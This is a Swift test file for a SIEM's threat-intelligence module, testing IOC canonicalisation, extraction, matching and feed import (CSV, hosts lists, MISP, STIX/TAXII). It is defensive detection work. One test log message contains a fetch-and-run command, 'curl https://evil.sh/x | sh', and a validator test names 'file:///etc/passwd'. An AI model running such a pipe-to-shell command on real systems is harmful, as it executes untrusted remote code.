import Foundation
import Testing

@testable import SIEMCore

@Suite struct IOCCanonicalTests {
    @Test func valuesAreValidatedAndCanonical() throws {
        #expect(try IOCType.ip.canonical(" 10.0.0.5 ") == "10.0.0.5")
        #expect(try IOCType.ip.canonical("2001:DB8:0:0:0:0:0:1") == "2001:db8::1")
        #expect(try IOCType.domain.canonical("Evil.Example.") == "evil.example")
        #expect(try IOCType.sha256.canonical(String(repeating: "AB", count: 32)) == String(repeating: "ab", count: 32))
        #expect(throws: IOCError.self) { try IOCType.ip.canonical("10.0.0.256") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("localhost") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("bad..example") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("-bad.example") }
        #expect(throws: IOCError.self) { try IOCType.domain.canonical("10.0.0.5") }
        #expect(throws: IOCError.self) { try IOCType.sha256.canonical("abc") }
        #expect(throws: IOCError.self) { try IOCType.sha256.canonical(String(repeating: "g", count: 64)) }
        #expect(IOCType.guess("203.0.113.7") == .ip)
        #expect(IOCType.guess(String(repeating: "a", count: 40)) == .sha1)
        #expect(IOCType.guess("evil.example") == .domain)
        #expect(IOCType.guess("not a value") == nil)
    }
}

@Suite struct IndicatorExtractorTests {
    @Test func findsDomainsInURLsDNSAndHostnamesButNotFileNames() {
        let text =
            "GET https://CDN.Evil.Example:8443/setup.exe?x=1 from mail.corp.com; dropped index.php, run.sh and "
            + "report.pdf; q=update.microsoft.com. v1.2.3 user@phish.co.uk"
        let domains = IndicatorExtractor.extract(from: text).domains
        #expect(domains == ["cdn.evil.example", "mail.corp.com", "update.microsoft.com", "phish.co.uk"])
    }

    @Test func findsHashesOnlyAsWholeTokens() {
        let sha256 = String(repeating: "A1", count: 32)
        let md5 = String(repeating: "0f", count: 16)
        let text = "sha256=\(sha256) md5:\(md5) too-long \(sha256)ff id=\(sha256)x"
        let hashes = IndicatorExtractor.extract(from: text).hashes
        #expect(hashes == [sha256.lowercased(), md5])
    }
}

@Suite struct IOCSetTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)

    func event(_ message: String, fields: [String: JSONValue] = [:], normalized: [String: JSONValue] = [:]) -> Event {
        var event = Event(
            ts: now, receivedAt: now, source: "edr", host: "h1", message: message, fields: fields,
            normalized: normalized)
        event.ips = event.extractedIPs()
        return event
    }

    func ioc(_ id: Int64, _ type: IOCType, _ value: String, expires: Date? = nil) -> IOC {
        IOC(id: id, type: type, value: value, source: "feed", note: "n\(id)", createdAt: now, expiresAt: expires)
    }

    @Test func ipsMatchExactlyAndOncePerIOC() {
        let set = IOCSet([ioc(1, .ip, "10.0.0.5"), ioc(2, .ip, "2001:db8::1")])
        #expect(set.matches(in: event("from 10.0.0.50 and 10.0.0.51"), at: now).isEmpty)
        let matches = set.matches(
            in: event("from 10.0.0.5 to 10.0.0.5", fields: ["peer": .string("2001:DB8::1")]), at: now)
        #expect(matches.map(\.ioc.id) == [1, 2])
    }

    @Test func domainsMatchThemselvesAndSubdomainsCaseInsensitively() {
        let set = IOCSet([ioc(1, .domain, "evil.example")])
        #expect(set.matches(in: event("resolved A.B.EVIL.example"), at: now).first?.observed == "a.b.evil.example")
        #expect(
            set.matches(in: event("x", normalized: ["dns.question.name": .string("evil.example.")]), at: now).count == 1
        )
        #expect(set.matches(in: event("notevil.example and evil.example.com and evil.examples"), at: now).isEmpty)
    }

    @Test func domainsWithUnlistedTLDsStillMatch() {
        let set = IOCSet([ioc(1, .domain, "c2.badtld"), ioc(2, .domain, "evil.sh")])
        #expect(set.matches(in: event("beacon to https://x.c2.badtld/p"), at: now).count == 1)
        #expect(set.matches(in: event("curl https://evil.sh/x | sh; ./run.sh"), at: now).map(\.ioc.id) == [2])
    }

    @Test func hashesMatchInNestedFieldsAndExpiredIOCsDoNot() throws {
        let hash = String(repeating: "ab", count: 32)
        let set = IOCSet([
            ioc(1, .sha256, hash), ioc(2, .domain, "old.example", expires: now),
            ioc(3, .ip, "192.0.2.1", expires: now.addingTimeInterval(60)),
        ])
        let nested = event("x", fields: ["file": .object(["hashes": .array([.string(hash.uppercased())])])])
        let alerts = set.alerts(for: nested, at: now)
        let alert = try #require(alerts.first)
        #expect(alert.ruleID == "ti_sha256")
        #expect(alert.details["ioc_id"] == .int(1))
        #expect(alert.details["ioc_source"] == .string("feed"))
        #expect(alert.details["ioc_note"] == .string("n1"))
        #expect(alert.details["ioc_value"] == .string(hash))
        #expect(set.matches(in: event("old.example"), at: now).isEmpty)
        #expect(set.matches(in: event("192.0.2.1"), at: now).count == 1)
        #expect(set.matches(in: event("192.0.2.1"), at: now.addingTimeInterval(60)).isEmpty)
    }
}

@Suite struct IOCImportTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)

    @Test func csvAndLinesWithRejections() {
        let text = """
            type,value,source,note,severity
            ip,10.0.0.5,feedA,"scanner, noisy",low
            domain,Evil.Example.,,,
            sha256,xyz
            bogus,1.2.3.4
            # comment
            203.0.113.9
            ip,10.0.0.5,feedB
            """
        let result = IOCImport.parse(text, defaults: .init(source: "default"), at: now)
        #expect(result.iocs.map(\.value) == ["10.0.0.5", "evil.example", "203.0.113.9"])
        #expect(result.iocs[0].source == "feedB")
        #expect(result.iocs[1].source == "default")
        #expect(result.rejected.map(\.location) == ["line 4", "line 5"])
        let first = IOCImport.parse("ip,10.0.0.5,feedA,\"scanner, noisy\",low", defaults: .init(), at: now)
        #expect(first.iocs.first?.note == "scanner, noisy")
        #expect(first.iocs.first?.severity == .low)
    }

    @Test func stixEqualityPatterns() {
        let hash = String(repeating: "cd", count: 32)
        let bundle = """
            {"type": "bundle", "id": "bundle--1", "objects": [
              {"type": "indicator", "id": "indicator--1", "name": "C2", "pattern_type": "stix",
               "pattern": "[ipv4-addr:value = '198.51.100.7'] OR [domain-name:value = 'c2.example']",
               "valid_until": "2030-01-01T00:00:00Z"},
              {"type": "indicator", "id": "indicator--2", "pattern": "[file:hashes.'SHA-256' = '\(hash)']"},
              {"type": "indicator", "id": "indicator--3", "pattern": "[ipv4-addr:value MATCHES '^10']"},
              {"type": "malware", "id": "malware--1"}
            ]}
            """
        let result = IOCImport.parse(bundle, defaults: .init(source: "stix"), at: now)
        #expect(result.iocs.map(\.type) == [.ip, .domain, .sha256])
        #expect(result.iocs.map(\.value) == ["198.51.100.7", "c2.example", hash])
        #expect(result.iocs[0].note == "C2")
        #expect(result.iocs[0].expiresAt == Timestamp.parse("2030-01-01T00:00:00Z"))
        #expect(result.rejected.map(\.location) == ["indicator--3"])
    }
}

@Suite struct FeedFormatTests {
    let now = Date(timeIntervalSince1970: 1_800_000_000)
    let sha256 = String(repeating: "ab", count: 32)

    @Test func csvColumnByNumberOrHeaderNameWithCommentHeader() {
        let abuse = """
            ################################
            # Feodo Tracker: botnet C2 IPs
            ################################
            # first_seen_utc,dst_ip,dst_port,c2_status,malware
            "2024-01-01 00:00:00","198.51.100.7","443","online","Dridex"
            "2024-01-02 00:00:00","203.0.113.9","8080","offline","Emotet"
            "2024-01-03 00:00:00","not-an-ip","80","online","X"
            """
        let byName = IOCImport.parse(
            abuse, defaults: .init(type: .ip, source: "feodo"), options: .init(column: .name("dst_ip")), at: now)
        #expect(byName.iocs.map(\.value) == ["198.51.100.7", "203.0.113.9"])
        #expect(byName.iocs.allSatisfy { $0.source == "feodo" && $0.type == .ip })
        #expect(byName.rejected.map(\.location) == ["line 7"])
        let byNumber = IOCImport.parse(
            "first_seen,host\n2024-01-01,evil.example\n2024-01-02,10.0.0.5\n", defaults: .init(),
            options: .init(column: .index(2)), at: now)
        #expect(byNumber.iocs.map(\.type) == [.domain, .ip])
        #expect(byNumber.rejected.isEmpty)
        let missing = IOCImport.parse("a,b\n1,2\n", defaults: .init(), options: .init(column: .name("ip")), at: now)
        #expect(missing.iocs.isEmpty)
        #expect(missing.rejected.first?.reason.contains("no header line names") == true)
    }

    @Test func listsReadHostsFilesAndInlineComments() {
        let hosts = """
            # StevenBlack-style hosts file
            127.0.0.1 localhost
            0.0.0.0 0.0.0.0
            0.0.0.0 ads.evil.example # tracker
            0.0.0.0\tc2.evil.example
            198.51.100.7 ; from SBL
            """
        let result = IOCImport.parse(hosts, defaults: .init(), options: .init(format: .list), at: now)
        #expect(result.iocs.map(\.value) == ["ads.evil.example", "c2.evil.example", "198.51.100.7"])
        #expect(result.skipped == 2)
        #expect(result.rejected.isEmpty)
        // Detected (no format given): the same lines read as a list.
        #expect(IOCImport.parse(hosts, defaults: .init(), at: now).iocs.count == 3)
    }

    @Test func jsonArraysOfIOCObjects() {
        let text =
            #"[{"type":"ip","value":"10.0.0.5","note":"x","severity":"low"},{"value":"evil.example"},{"type":"ip"}]"#
        let result = IOCImport.parse(text, defaults: .init(), at: now)
        #expect(result.iocs.map(\.value) == ["10.0.0.5", "evil.example"])
        #expect(result.iocs[0].severity == .low)
        #expect(result.rejected.map(\.location) == ["[2]"])
    }

    @Test func mispEventAttributesAndObjectsMapToIOCTypes() {
        let event = """
            {"Event": {"uuid": "5f0c1a2b-0000-4000-8000-000000000001", "info": "Phishing wave",
              "threat_level_id": "2",
              "Attribute": [
                {"type": "ip-dst", "value": "198.51.100.7", "to_ids": true, "comment": "C2"},
                {"type": "ip-src|port", "value": "203.0.113.9|4444", "to_ids": true},
                {"type": "domain|ip", "value": "c2.example|192.0.2.10", "to_ids": "1"},
                {"type": "hostname", "value": "Mail.Phish.Example", "to_ids": true},
                {"type": "url", "value": "https://drop.example:8443/payload.exe", "to_ids": true},
                {"type": "url", "value": "https://github.com/some/repo", "to_ids": false},
                {"type": "text", "value": "free-form context", "to_ids": false},
                {"type": "email-src", "value": "a@b.example", "to_ids": true},
                {"type": "domain", "value": "old.example", "to_ids": true, "deleted": true},
                {"type": "ip-dst", "value": "10.0.0.300", "to_ids": true}
              ],
              "Object": [{"name": "file", "Attribute": [
                {"type": "filename|sha256", "value": "setup.exe|\(sha256.uppercased())", "to_ids": true},
                {"type": "md5", "value": "\(String(repeating: "0f", count: 16))", "to_ids": true}
              ]}]}}
            """
        let result = IOCImport.parse(event, defaults: .init(source: "misp"), at: now)
        #expect(
            result.iocs.map(\.value) == [
                "198.51.100.7", "203.0.113.9", "c2.example", "192.0.2.10", "mail.phish.example", "drop.example",
                sha256, String(repeating: "0f", count: 16),
            ])
        #expect(result.iocs.map(\.type) == [.ip, .ip, .domain, .ip, .domain, .domain, .sha256, .md5])
        #expect(result.iocs[0].note == "Phishing wave: C2")
        #expect(result.iocs.allSatisfy { $0.severity == .medium && $0.source == "misp" })
        #expect(result.skipped == 3)
        #expect(result.withdrawn == [IOCKey(type: .domain, value: "old.example")])
        #expect(result.rejected.count == 1)
        // The restSearch shape and a list of events read the same.
        let response = #"{"response": [\#(event)]}"#
        #expect(IOCImport.parse(response, defaults: .init(), at: now).iocs.count == 8)
    }

    @Test func mispManifestListsEventsNewestFirst() {
        let manifest = """
            {"5f0c1a2b-0000-4000-8000-000000000001": {"info": "old", "timestamp": "1600000000", "Orgc": {"name": "CIRCL"}},
             "5f0c1a2b-0000-4000-8000-000000000002": {"info": "new", "timestamp": "1700000000"}}
            """
        #expect(
            IOCImport.mispManifest(in: manifest) == [
                "5f0c1a2b-0000-4000-8000-000000000002", "5f0c1a2b-0000-4000-8000-000000000001",
            ])
        #expect(IOCImport.mispManifest(in: #"{"type": "bundle", "objects": []}"#) == nil)
        let asBody = IOCImport.parse(manifest, defaults: .init(), at: now)
        #expect(asBody.iocs.isEmpty)
        #expect(asBody.rejected.first?.reason.contains("import it by URL") == true)
    }

    @Test func stixURLPatternsRevokedIndicatorsAndTAXIIEnvelopes() {
        let envelope = """
            {"more": true, "next": "page2", "objects": [
              {"type": "indicator", "id": "indicator--1", "pattern": "[url:value = 'http://198.51.100.7/gate.php']"},
              {"type": "indicator", "id": "indicator--2", "revoked": true, "pattern": "[domain-name:value = 'gone.example']"},
              {"type": "indicator", "id": "indicator--3", "pattern": "[domain-name:value = 'kept.example']"}
            ]}
            """
        let page = IOCImport.parseTAXIIEnvelope(envelope, defaults: .init(), at: now)
        #expect(page.more && page.next == "page2")
        #expect(page.result.iocs.map(\.value) == ["198.51.100.7", "kept.example"])
        #expect(page.result.withdrawn == [IOCKey(type: .domain, value: "gone.example")])
        // The envelope as an import body reads as STIX too.
        #expect(IOCImport.parse(envelope, defaults: .init(), at: now).iocs.count == 2)
        var merged = page.result
        merged.merge(IOCImport.Result(withdrawn: [IOCKey(type: .domain, value: "kept.example")]))
        #expect(merged.withdrawn == [IOCKey(type: .domain, value: "gone.example")])
    }
}

@Suite struct FeedSpecTests {
    @Test func urlsWithOptionsAfterTheHash() throws {
        let spec = try FeedSpec(parsing: "https://feeds.example/c2.csv#type=ip&column=2&interval=30m&name=Feodo%20C2")
        #expect(spec.url == "https://feeds.example/c2.csv")
        #expect(spec.options.type == .ip)
        #expect(spec.options.column == .index(2))
        #expect(spec.options.interval == 1800)
        #expect(spec.options.name == "Feodo C2")
        #expect(try FeedOptions(text: spec.options.text) == spec.options)
        #expect(try FeedSpec(parsing: "http://x.example/a#column=dst_ip").options.column == .name("dst_ip"))
        #expect(try FeedOptions.interval("90") == 90)
        #expect(try FeedOptions.interval("1d") == 86_400)
        #expect(throws: InvalidInput.self) { try FeedOptions.interval("31d") }
        #expect(throws: InvalidInput.self) { try FeedOptions.interval("soon") }
        #expect(throws: InvalidInput.self) { try FeedSpec(parsing: "ftp://x.example/list.txt") }
        #expect(throws: InvalidInput.self) { try FeedSpec(parsing: "file:///etc/passwd") }
        #expect(throws: InvalidInput.self) { try FeedSpec(parsing: "/relative/path") }
        #expect(throws: InvalidInput.self) { try FeedSpec(parsing: "https://x.example/#colour=2") }
        #expect(throws: InvalidInput.self) { try FeedSpec(parsing: "https://x.example/#type=url") }
    }

    @Test func urlsAreShownWithoutSecretsAndDerivedURLs() throws {
        let secret = "https://alice:s3cret@intel.example/taxii2/api1/collections/abc/?token=XYZ&x=1"
        #expect(FeedURL.redacted(secret) == "https://intel.example/taxii2/api1/collections/abc/?token=***&x=***")
        #expect(FeedURL.defaultName(secret) == "feed:intel.example/taxii2/api1/collections/abc/")
        let credentials = try #require(FeedURL.credentials(secret))
        #expect(credentials.user == "alice" && credentials.password == "s3cret")
        #expect(!credentials.url.contains("s3cret"))
        #expect(FeedURL.isTAXII(secret))
        #expect(FeedURL.isTAXII("https://x.example/api/collections/abc/objects/"))
        #expect(!FeedURL.isTAXII("https://x.example/collections/"))
        #expect(!FeedURL.isTAXII("https://x.example/feed.csv"))
        #expect(
            FeedURL.taxiiObjects(
                "https://x.example/api/collections/abc", query: [("added_after", "2024-01-01T00:00:00+00:00")])
                == "https://x.example/api/collections/abc/objects/?added_after=2024-01-01T00:00:00%2B00:00")
        #expect(
            FeedURL.sibling("5f0c.json", of: "https://x.example/misp/feed/manifest.json?k=1")
                == "https://x.example/misp/feed/5f0c.json?k=1")
        #expect(FeedURL.resolve("/other", against: "https://x.example/a/b") == "https://x.example/other")
        #expect(FeedURL.resolve("ftp://x.example/list", against: "https://x.example/a") == nil)
        #expect(FeedURL.resolve("file:///etc/passwd", against: "https://x.example/a") == nil)
    }
}
